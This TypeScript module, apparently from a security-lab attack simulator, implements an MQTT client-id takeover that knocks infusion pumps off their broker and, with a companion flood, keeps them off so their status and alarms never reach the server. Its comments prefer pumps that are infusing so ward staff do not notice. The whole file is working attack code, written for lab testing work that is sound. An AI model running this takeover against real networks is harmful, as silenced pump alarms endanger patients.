import { z } from 'zod';
import type { Endpoint } from '../engine/lab-under-test.ts';
import type { Action, AttackContext, ClientEvidence } from './action.ts';
import { connectMqtt, type MqttIdentity, type MqttSession } from './clients/mqtt-session.ts';
import {
  connackCode,
  connectionChannel,
  evidence,
  evidenceCodes,
  report,
  statusOf,
  tally,
} from './evidence.ts';
import { floodSlotsAt, holdInBackground } from './held-connections.ts';
import { holdFor } from './lab-hold.ts';
import { mqttIdentity } from './mqtt-identities.ts';
import { addressOf, endpointFor, knownSerials } from './targets.ts';

const params = z.strictObject({
  identity: z.enum(['none', 'claim-serial']),
  /**
   * Every pump whose serial the attacker knows, or only those it saw infusing: the pumps whose
   * alarms matter, and the others keep working, so nobody on the ward notices a broken network.
   */
  targets: z.enum(['all', 'infusing']).default('all'),
  /** Lab milliseconds to keep the pumps off the broker, from the step's start. */
  holdMs: z.number().int().positive().max(1_800_000),
  /** Return once every pump was tried (the first wave) and hold their ids meanwhile, until `holdMs` has passed. */
  background: z.boolean().default(false),
});

/**
 * Real milliseconds between attempts for one victim: after a kick back, after a refusal, after a
 * flood connection was closed to make room (time for the broker to see it go). Another victim may
 * take that room first: a few tries in a row before the victim waits like after any refusal.
 */
const pace = { retakeMs: 100, refusedMs: 1_000, tradeMs: 25, tradesPerAttempt: 3 };

/** A connection the broker dropped before the TLS handshake, as a full broker drops one (a reset or a close). */
const droppedFull = (code: string): boolean => code === 'ECONNRESET' || code === evidenceCodes.closed;

/**
 * Denial of service by client-id takeover: the broker hands a client id's session to whoever
 * connects with it and drops the one holding it (MQTT 3.1.1 3.1.4-2). Until `holdMs` of lab time has
 * passed the attacker connects with each victim's serial as client id, and reconnects whenever the
 * pump's own reconnect kicks it back, so the pump's status, events and alarms stop reaching the
 * server. When the broker is full and the attacker's own flood holds it (flood.ts), a connection of
 * the flood is traded for the session; a session still held at the end is left to that flood, so
 * the pump finds no free connection the moment the takeover stops. `none` sends only the client
 * id; `claim-serial` also puts the serial in the username. Done if the broker accepted a takeover.
 * With `background` the step returns after the first wave and the takeover holds on meanwhile.
 */
export const mqttTakeover: Action<typeof params> = {
  name: 'mqtt-takeover',
  summary: "Keeps connecting with each pump's client id so the real pumps are thrown off the broker.",
  params,
  async run(context, { identity, targets, holdMs, background }) {
    const reached = endpointFor(context, 'mqtt');
    if (!reached.ok) return report('blocked', 'The broker is out of reach.', [reached.evidence]);
    const end = context.lab.now() + holdMs;
    const victims = victimsOf(context, targets);
    if (victims.length === 0) {
      const code = targets === 'infusing' ? evidenceCodes.notInfusing : evidenceCodes.noTarget;
      return report('blocked', 'No pump to take over.', [evidence('mqtt', code, `no ${targets} pump`)]);
    }
    const takeover = new Takeover(context, reached.endpoint);
    const loops = victims.map((serial) => takeover.keep(serial, identity));
    await Promise.all(loops.map((loop) => loop.firstTried));
    const firstWave = takeover.accepted;
    // In the background only a takeover the first wave got under way goes on; one refused stops here.
    const holdMsLeft = background && firstWave === 0 ? 0 : end - context.lab.now();
    const hold = async (): Promise<void> => {
      try {
        await Promise.race([holdFor(context.lab, holdMsLeft), takeover.gone]);
      } finally {
        takeover.stop();
        await Promise.all(loops.map((loop) => loop.ended));
      }
    };
    const inBackground = background && firstWave > 0;
    if (inBackground) holdInBackground(context, hold);
    else await hold();
    const accepted = background ? firstWave : takeover.accepted;
    const held = inBackground ? `, held in the background for ${Math.round(holdMs / 1000)} lab s` : '';
    const summary = `${accepted} takeover connection(s) accepted against ${victims.length} pump(s)${held}.`;
    return report(statusOf(accepted > 0), summary, tally(takeover.items));
  },
};

/** The serials to take over: every one the attacker knows, or those of the pumps it saw infusing. */
function victimsOf(context: AttackContext, targets: 'all' | 'infusing'): string[] {
  const known = knownSerials(context);
  if (targets === 'all') return known;
  const infusing = new Set(
    context.lab.observe
      .pumps()
      .filter((pump) => pump.state === 'infusing')
      .map((pump) => pump.serial),
  );
  return known.filter((serial) => infusing.has(serial));
}

/** One victim's loop: resolves `firstTried` after its first attempt, `ended` once its socket is closed. */
interface VictimLoop {
  firstTried: Promise<void>;
  ended: Promise<void>;
}

/** The takeover of every victim's client id on one broker, until `stop()`. */
class Takeover {
  readonly items: ClientEvidence[] = [];
  accepted = 0;
  private running = true;
  private markStopped: () => void = () => undefined;
  private readonly stopped = new Promise<void>((resolve) => (this.markStopped = resolve));
  private markGone: () => void = () => undefined;
  /** Resolves when nothing listens at the broker's address any more (ECONNREFUSED): the lab closed. */
  readonly gone = new Promise<void>((resolve) => (this.markGone = resolve));

  constructor(
    private readonly context: AttackContext,
    private readonly endpoint: Endpoint,
  ) {}

  stop(): void {
    this.running = false;
    this.markStopped();
  }

  keep(serial: string, kind: 'none' | 'claim-serial'): VictimLoop {
    let tried: () => void = () => undefined;
    const firstTried = new Promise<void>((resolve) => (tried = resolve));
    // A failure the loop did not expect ends that victim's loop, never the run (its client is ended).
    const ended = this.loop(serial, kind, () => tried())
      .catch(() => undefined)
      .finally(() => tried());
    return { firstTried, ended };
  }

  /** Keeps one victim's client id taken until the takeover stops. */
  private async loop(serial: string, kind: 'none' | 'claim-serial', tried: () => void): Promise<void> {
    const who = mqttIdentity(this.context, 'claim-serial', serial);
    if (!who.ok) return;
    const identity: MqttIdentity = kind === 'none' ? { clientId: serial } : who.identity;
    let retries = 0;
    while (this.running) {
      await this.makeRoom();
      const connected = await connectMqtt(this.endpoint, this.context.attacker.address, identity);
      if (!this.running) {
        if (connected.ok) await this.leave(connected.session);
        return;
      }
      if (connected.ok) {
        this.accepted += 1;
        this.items.push(evidence('mqtt', connackCode(0), "took over a pump's client id", serial));
        tried();
        retries = 0;
        if (await this.heldUntilKicked(connected.session)) await this.pause(pace.retakeMs);
        continue;
      }
      const { code, line } = connected;
      this.items.push(evidence(connectionChannel(code), code, line, addressOf(this.endpoint)));
      if (code === 'ECONNREFUSED') return this.markGone();
      // Dropped before the handshake though room was made: another victim took it first.
      if (retries < pace.tradesPerAttempt && droppedFull(code) && this.floodKeepsFull()) {
        retries += 1;
        continue;
      }
      retries = 0;
      tried();
      await this.pause(pace.refusedMs);
    }
  }

  /** Whether the attacker's own flood keeps this broker full. */
  private floodKeepsFull(): boolean {
    return floodSlotsAt(this.context, this.endpoint)?.full === true;
  }

  /**
   * When the attacker's own flood keeps the broker full, one of its connections makes room for the
   * session; the flood takes the next free slot back, which is the pump's once it is thrown off.
   */
  private async makeRoom(): Promise<void> {
    const flood = floodSlotsAt(this.context, this.endpoint);
    if (flood?.full && flood.yieldOne()) await this.pause(pace.tradeMs);
  }

  /** Waits `ms` real ms, or less when the takeover stops meanwhile. */
  private async pause(ms: number): Promise<void> {
    let timer: NodeJS.Timeout | undefined;
    await Promise.race([new Promise((resolve) => (timer = setTimeout(resolve, ms))), this.stopped]);
    clearTimeout(timer);
  }

  /** Holds the session until the pump takes its id back (true) or the takeover stops (false). */
  private async heldUntilKicked(session: MqttSession): Promise<boolean> {
    await Promise.race([session.whenClosed(), this.stopped]);
    if (this.running) {
      await session.close();
      return true;
    }
    await this.leave(session);
    return false;
  }

  /**
   * At the end: a session is left to the attacker's flood when that keeps the broker full, so its
   * slot never comes free for the pump; any other is closed.
   */
  private async leave(session: MqttSession): Promise<void> {
    const flood = session.connected ? floodSlotsAt(this.context, this.endpoint) : undefined;
    if (!(flood?.full && flood.adopt(() => session.close()))) await session.close();
  }
}
